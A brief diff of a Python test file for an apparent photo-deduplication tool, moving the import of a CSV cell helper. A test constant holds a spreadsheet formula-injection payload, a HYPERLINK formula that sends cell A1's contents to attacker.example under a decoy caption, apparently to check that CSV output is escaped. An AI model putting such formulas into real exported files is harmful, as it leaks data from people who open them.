@@ -15,7 +15,7 @@ from conftest import photo
 from PIL import Image
 
 from dedupdb.cli import cli
-from dedupdb.report import csv_cell
+from dedupdb.render.csv_report import csv_cell
 
 MAKE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full picture")'
 MODEL = "Pro"
